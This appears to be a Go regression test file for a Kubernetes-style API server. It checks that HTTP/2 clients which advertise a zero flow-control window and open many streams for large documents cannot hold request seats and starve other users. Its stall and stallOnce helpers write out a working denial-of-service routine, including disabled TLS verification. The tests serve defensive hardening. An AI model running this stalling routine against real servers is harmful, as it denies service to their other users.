package attacks

import (
	"context"
	"crypto/tls"
	"io"
	"net/http"
	"slices"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
)

const (
	stallers         = 6
	stallerStreams   = 100 // what a connection takes
	stallingLasts    = 5 * time.Second
	othersMayWaitFor = 5 * time.Second

	protobufDocument = "application/com.github.proto-openapi.spec.v2.v1.0+protobuf"
)

// Connections without a flow-control window, whose streams ask for what is large, again
// and again. The attacker would hold all seats of a priority level with responses that
// are never taken: other users of the level got 429 for a minute each time. The document
// is made, and unpacked for clients without compression, while requests hold seats: with
// that done for the whole of it, every second get of the others took over 5 seconds.
func TestResponsesThatAreNotTakenHoldNoSeats(t *testing.T) {
	for _, c := range []struct {
		name    string
		built   bool // before the attack
		streams int
		header  []string
	}{
		{"compressed", true, stallerStreams, []string{"accept-encoding", "gzip"}},
		{"plain, and not yet built", false, 5 * stallerStreams, nil},
		{"in protobuf, and not yet built", false, 5 * stallerStreams, []string{"accept", protobufDocument}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := start(t)
			s.Kubectl(t, "create", "clusterrolebinding", "readers", "--clusterrole=cluster-admin",
				"--serviceaccount=default:mallory", "--serviceaccount=default:light")
			token, light := s.token("mallory"), s.user("light")
			const path = "/api/v1/namespaces/default/serviceaccounts/light"
			s.eventually("the user may read", 10*time.Second,
				func() bool { return get(t.Context(), light, path) == http.StatusOK })
			if c.built {
				s.get(discovery)
			}
			asked := s.stall(t, discovery, c.streams, append(c.header, "authorization", "Bearer "+token)...)
			s.eventually("the attack has begun", generous,
				func() bool { return asked.Load() >= stallers*stallerStreams })
			s.readsMeanwhile(t, light, path, asked)
		})
	}
}

// readsMeanwhile has a user get a path, again and again, while others are attacked.
func (s *target) readsMeanwhile(t *testing.T, light client, path string, asked *atomic.Int64) {
	var took []time.Duration
	refused := 0
	for end := time.Now().Add(stallingLasts); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		begun := time.Now()
		ctx, cancel := context.WithTimeout(t.Context(), othersMayWaitFor)
		if code := get(ctx, light, path); code != http.StatusOK {
			refused++
		}
		cancel()
		took = append(took, time.Since(begun))
	}
	slices.Sort(took)
	t.Logf("%d of %d gets of another user fail, p50 %v, p99 %v, the longest %v; the attacker asked %d times; the heap has %d MiB",
		refused, len(took), took[len(took)/2], took[len(took)*99/100], took[len(took)-1], asked.Load(), s.heap()>>20)
	if refused > 0 {
		t.Errorf("%d of %d gets of another user of the level fail", refused, len(took))
	}
}

// Files of the console that are not taken. The attacker, who needs no credentials, would
// switch the console off, which sends few files at a time.
func TestFilesThatAreNotTaken(t *testing.T) {
	s := start(t)
	asked := s.stall(t, "/swagger-ui/swagger-ui-bundle.js", stallerStreams, "accept-encoding", "gzip")
	s.eventually("the attack has begun", generous, func() bool { return asked.Load() >= stallers*100 })
	client := client{s.admin, s.Config.Host}
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if code := get(t.Context(), client, "/console/app.js"); code != http.StatusOK {
			t.Fatalf("the console is answered %d", code)
		}
	}
}

// stall keeps asking for a path on connections that give no window, so many streams a second
// on each, until the test ends; it returns how often.
func (s *target) stall(t *testing.T, path string, streams int, header ...string) *atomic.Int64 {
	ctx, stop := context.WithCancel(t.Context())
	var all sync.WaitGroup
	var asked atomic.Int64
	for range stallers {
		all.Go(func() {
			for ctx.Err() == nil {
				s.stallOnce(ctx, &asked, path, streams, header)
			}
		})
	}
	t.Cleanup(func() { stop(); all.Wait() })
	return &asked
}

// stallOnce opens streams on one connection, over and over, until the server closes it.
func (s *target) stallOnce(ctx context.Context, asked *atomic.Int64, path string, burst int, header []string) {
	c, err := tls.Dial("tcp", s.address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // the attacker does not care
	if err != nil {
		time.Sleep(100 * time.Millisecond)
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { _ = c.Close() })()
	go func() { _, _ = io.Copy(io.Discard, c) }() // control frames; there is no window for others
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return
	}
	x := &streams{c, http2.NewFramer(c, nil), 1}
	if x.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
		return
	}
	for i := 0; ctx.Err() == nil; i++ {
		if x.open("GET", path, true, header...) != nil {
			return
		}
		asked.Add(1)
		if i%burst == burst-1 {
			time.Sleep(time.Second)
		}
	}
}
